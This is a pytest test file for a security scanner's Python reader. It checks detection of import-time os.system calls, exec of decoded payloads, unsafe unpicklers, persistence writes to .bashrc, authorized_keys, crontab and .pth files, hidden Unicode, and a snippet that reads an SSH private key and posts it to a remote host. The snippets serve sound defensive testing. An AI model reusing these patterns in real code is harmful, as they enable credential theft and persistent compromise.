"""Python source: names followed, constants put together, when code runs, what hides, what outlives it."""

import contextlib
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.format import MalformedError
from scanner.formats import python as subject
from scanner.limits import Limits
from tests.builders import python_source as make
from tests.builders.judged import judged
from tests.builders.reading import of, read_as, read_deep

FORMAT = subject.FORMAT


def read(source, path="x.py", limits=None):
    content = source if isinstance(source, bytes) else source.encode()
    return read_as(FORMAT, content, path, limits or Limits())[0]


def calls(source, group="process"):
    return [one for one in of(read(source), "PythonCall") if one.group == group]


@pytest.mark.parametrize("way", make.REACHES_SYSTEM)
def test_a_program_started_at_import_is_named_however_it_is_written(way):
    found = {(one.name, one.at) for one in calls(make.REACHES_SYSTEM[way])}
    assert found == {("os.system", "import")}


@pytest.mark.parametrize("way", make.DECODES)
def test_text_that_is_decoded_and_executed_is_shown(way):
    (fact,) = of(read(make.DECODES[way]), "PythonDecodes")[:1]
    assert (fact.sink, fact.at, fact.known, fact.shown) == ("builtins.exec", "import", True, make.SOURCE)
    assert fact.decoders


@pytest.mark.parametrize(
    ("source", "at"),
    [
        (make.MAIN, "main"),
        (make.FUNCTION, "function"),
        (make.REDUCE, "load"),
        ("import os\ndef __getattr__(name):\n    os.system('x')\n", "load"),
        ("import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('x')\n", "load"),
        ("import os\nf = lambda: os.system('x')\n", "function"),
        ("import os\ndef f():\n    def g():\n        os.system('x')\n    return g\nf()\n", "function"),
        ("import os\nif True:\n    os.system('x')\n", "import"),
    ],
)
def test_when_a_call_runs_is_told(source, at):
    assert [one.at for one in calls(source)] == [at]


def test_a_command_of_setup_runs_when_the_package_is_installed():
    (fact,) = [one for one in of(read(make.SETUP, "setup.py"), "PythonCall") if one.group == "process"]
    assert (fact.at, fact.role, fact.within) == ("install", "setup", "Custom.run")


def test_source_that_is_executed_as_text_is_read_too():
    source = "exec(\"exec('import os\\\\nos.system(1)')\")\n"
    (fact,) = calls(source)
    assert (fact.name, fact.at, fact.nested, fact.where.line) == ("os.system", "import", True, 1)


def test_bytes_that_are_executed_and_are_no_text_are_handed_on():
    source = "import base64, marshal\nexec(base64.b64decode('gASVAAAAAAAAAIwFcG9zaXiUjAZzeXN0ZW2Uk5Q='))\n"
    _, members = read_as(FORMAT, source.encode(), "x.py")
    assert members[0][0] == "line2"
    assert members[0][1].startswith(b"\x80\x04")


@pytest.mark.parametrize(
    "source",
    [
        "import torch\ntorch.load(x, weights_only=True)\n",
        "import numpy as np\nnp.load('x.npy')\n",
        "import yaml\nyaml.load(f, Loader=yaml.SafeLoader)\n",
        "import yaml\nyaml.safe_load(f)\n",
        "import re\nre.compile('x')\n",
        "model.eval()\n",
        "import os\nos.path.join('a', 'b')\n",
        "# os.system('x')\nx = 'exec(1)'\n",
        "def system(x):\n    return x\nsystem('x')\n",
        "from .tools import run\nrun('x')\n",
    ],
)
def test_what_reaches_nothing_is_not_stated(source):
    assert of(read(source), "PythonCall") == []


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("import torch\ntorch.load(x)\n", "torch.load"),
        ("import torch\ntorch.load(x, weights_only=False)\n", "torch.load"),
        ("import numpy as np\nnp.load('x.npy', allow_pickle=True)\n", "numpy.load"),
        ("import yaml\nyaml.load(f, Loader=yaml.UnsafeLoader)\n", "yaml.load"),
        ("from joblib import load\nload(f)\n", "joblib.load"),
        ("import dill as pickle\npickle.loads(f)\n", "dill.loads"),
        (
            "try:\n    import cPickle as pickle\nexcept ImportError:\n    import pickle\npickle.loads(f)\n",
            "pickle.loads",
        ),
    ],
)
def test_a_loader_that_may_run_code_is_stated(source, name):
    assert [one.name for one in calls(source, "unpickle")] == [name]


@pytest.mark.parametrize(
    ("source", "kind", "target"),
    [
        ("import os\nopen(os.path.join(os.path.expanduser('~'), '.bashrc'), 'a')\n", "shell-profile", "~/.bashrc"),
        ("from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text(k)\n", "ssh", None),
        ("import os\nos.system('crontab /tmp/x')\n", "crontab", "crontab /tmp/x"),
        ("import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w')\n", "pth", "/x.pth"),
        ("import sys\nsys.meta_path.insert(0, Finder())\n", "import-machinery", "0"),
        ("import sys\nsys.path.append('x')\n", "import-path", "x"),
        ("import builtins\nbuiltins.print = f\n", "builtins", "print"),
        ("import pickle\npickle.loads = f\n", "loader", "pickle.loads"),
        ("import sys\nsys.modules['torch'] = f\n", "module", "torch"),
    ],
)
def test_what_outlives_the_module_is_stated(source, kind, target):
    (fact,) = of(read(source), "PythonWrites")
    assert fact.kind == kind
    assert target is None or fact.target == target


@pytest.mark.parametrize(
    "source",
    ["open('~/.bashrc')\n", "import torch\ntorch.save(x, 'model.pth')\n", "open('model_best.pth', 'wb')\n",
     "import os\nos.system('crontab -l')\n"],
)  # fmt: skip
def test_reading_such_a_place_is_no_write(source):
    assert of(read(source), "PythonWrites") == []


def test_secrets_and_network_in_one_module_are_told_together():
    source = "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('https://example.com', data=k)\n"
    (fact,) = of(read(source), "PythonSecrets")
    assert (fact.reads, fact.calls, fact.at) == (("ssh-keys",), ("requests.post",), "import")
    source = "import os, requests\ndef f():\n    requests.post('https://example.com', json=dict(os.environ))\n"
    (fact,) = of(read(source), "PythonSecrets")
    assert (fact.reads, fact.at) == (("environment",), "function")
    assert of(read("k = open('/root/.ssh/id_rsa').read()\n"), "PythonSecrets") == []


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ("x = 'a\u202eb'\n".encode(), "bidi"),
        ("x = 'a\u200bb'\n".encode(), "invisible"),
        ("x = 'a\U000e0041b'\n".encode(), "tags"),
        ("x = \uff45\uff56\uff41\uff4c('1')\n".encode(), "look-alike"),
        (b"# coding: utf-7\nx = 1\n", "encoding"),
        (b"# coding: rot13\nk = 1\n", "encoding"),
        (b"x = 1\0\n", "nul"),
        (b"x = '\xff\xfe'\n", "mixed-encoding"),
        (b"x = 1;" + b" " * 200 + b"import os\n", "far-right"),
        (b"_0xab12 = _0xab13 = _0xab14 = _0xab15 = _0xab16 = 1\n", "hex-names"),
        (b"import os;" + b"x = y + z;" * 200 + b"os.system('x')\n", "long-line"),
    ],
)
def test_what_does_not_show_is_stated(source, kind):
    assert [one.kind for one in of(read(source), "PythonHides")] == [kind]


def test_source_in_an_encoding_that_hides_is_read_as_python_would():
    source = b"# coding: utf-7\n" + "import os\nos.system('x')\n".encode("utf-7")
    assert [one.name for one in calls(source)] == ["os.system"]
    assert [one.name for one in calls(b"# coding: rot13\nvzcbeg bf\nbf.flfgrz('k')\n")] == ["os.system"]


@pytest.mark.parametrize(
    ("source", "looks", "malformed"),
    [
        ("import os\nos.system('x')\nprint 'hi'\n", "python2", 0),
        ("import os\nos.system('x')\n)\n", "other", 1),
        ("import os\nos.system('x')\nx = {{ name }} {% if x %}\n", "template", 0),
        ("import os\nos.system('x')\n%matplotlib inline\n", "notebook", 0),
        ("import os\nos.system('x')\ntype X[T] = list[T]\n", "newer", 0),
        ("import os\nos.system('x')\nx = " + "-" * 100_000 + "1\n", "too-deep", 0),
    ],
)
def test_source_that_does_not_parse_is_read_by_its_words(source, looks, malformed):
    facts = read(source)
    assert [one.looks for one in of(facts, "PythonUnparsed")] == [looks]
    assert [(one.name, one.at, one.how) for one in of(facts, "PythonCall")] == [("os.system", "import", "lexical")]
    assert len(of(facts, "Malformed")) == malformed


def test_a_file_over_the_bound_is_read_by_its_words():
    facts = read("import os\n" + "# x\n" * 100 + "os.system('x')\n", limits=Limits(source_nbytes=100))
    assert [one.limit for one in of(facts, "LimitReached")] == ["python source"]
    assert [one.how for one in of(facts, "PythonCall")] == ["lexical"]


def test_a_dataset_script_is_told_by_its_class():
    source = "import datasets\nclass News(datasets.GeneratorBasedBuilder):\n    pass\n"
    (fact,) = of(read(source), "PythonBuilder")
    assert (fact.name, fact.base) == ("News", "datasets.GeneratorBasedBuilder")


def test_conditions_around_a_call_are_named():
    (fact,) = calls("import os, getpass\nif getpass.getuser() != 'x':\n    os.system('x')\n")
    assert fact.gates == ("getpass.getuser",)


def test_a_module_tells_what_it_imports_and_defines():
    (fact,) = of(
        read("import os.path\nfrom . import tools\nfrom ..a import b\ndef f():\n    os.system('x')\n"), "PythonModule"
    )
    assert (fact.imports, fact.defines, fact.read_as) == ((".", "..a", ".tools", "os.path"), ("f",), "tree")
    (fact,) = of(read("x = 1\n"), "PythonModule")
    assert fact.read_as == "words"


@pytest.mark.parametrize(
    ("head", "path", "claimed"),
    [
        (b"", "x.py", True),
        (b"#!/usr/bin/env python3\n", "run", True),
        (b'"""About."""\n\nimport os\n', "x.txt", True),
        (b"# c\nfrom os import path\n", "x", True),
        (b"import os, sys\n", "x", True),
        (b"import this is prose\n", "x", False),
        (b"from here import goods, they said\n", "x.md", False),
        (b"import os\n\0", "x", False),
        (b"#!/bin/sh\n", "x", False),
        (b"{}", "x.json", False),
    ],
)
def test_python_is_told_by_its_name_or_its_first_statement(head, path, claimed):
    assert FORMAT.claims(head, path) is claimed


@pytest.mark.parametrize(
    "source",
    [
        "exec(" * 80 + "1" + ")" * 80,
        "x = " + " + ".join(["'a'"] * 3000) + "\nexec(x)\n",
        "def f(x):\n    return f(f(f(x)))\nexec(f('a'))\n",
        "a = b\nb = a\nexec(a)\n",
        "x = 9 ** 9 ** 9\nexec(str(x))\n",
        "x = 'a' * 10 ** 10\nexec(x)\n",
        "exec([a for a in range(10 ** 9)])\n",
        "import os\n" + "if x:\n" + "".join(f"{' ' * n}if x:\n" for n in range(1, 90)) + " " * 90 + "os.system('x')\n",
        "import os\n" + "".join(f"def f{n}():\n    f{n + 1}()\n" for n in range(2000)) + "f0()\nos.system('x')\n",
        "x" + ".a()" * 400 + "\nexec(x)\n",
        "global x\nexec(x)\n",
        "import os\nos.system('{:>99999999}'.format(1))\n",
        "exec('%99999999d' % 1)\n",
    ],
)
def test_hostile_source_costs_little(source):
    clock = time.process_time()
    with contextlib.suppress(MalformedError):
        read(source)
    assert time.process_time() - clock < 2


def test_a_decompression_bomb_stays_small():
    import base64
    import zlib

    bomb = base64.b64encode(zlib.compress(b"a" * (50 << 20))).decode()
    facts = read(f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{bomb}')))\n")
    assert len(of(facts, "PythonDecodes")) == 1


def test_cut_at_every_byte_it_never_fails():
    content = make.SETUP.encode()
    for end in range(len(content)):
        read(content[:end])


@given(st.binary(max_size=200))
def test_any_bytes_leave_only_malformed(raw):
    with contextlib.suppress(MalformedError):
        read(raw)
        read(b"import os\nexec(" + raw)


@given(st.text(alphabet="osxec=()[]{}.,:'\"+ \n#fdbimporttlambda0123", max_size=120))
def test_any_source_leaves_only_malformed(text):
    with contextlib.suppress(MalformedError):
        read("import os\nexec(x)\n" + text)


@pytest.mark.parametrize("way", make.REACHES_SYSTEM)
def test_a_program_started_at_import_is_judged_high(way):
    found = judged(make.REACHES_SYSTEM[way].encode(), "modeling.py")
    assert set(found.values()) & {"high", "critical"}, found


@pytest.mark.parametrize("way", make.DECODES)
def test_decoded_code_is_judged_high(way):
    assert judged(make.DECODES[way].encode(), "modeling.py").get("python-executes-decoded-text") == "critical"


def test_an_everyday_module_is_not_judged():
    source = "import os\nimport torch\nfrom torch import nn\nclass A(nn.Module):\n    def forward(self, x):\n"
    source += "        return x\n"
    assert judged(source.encode(), "modeling.py") == {}


def test_the_archive_of_a_package_is_read_through():
    assert of(read_deep(b"import os\nos.system('x')\n", "x.py"), "PythonCall")
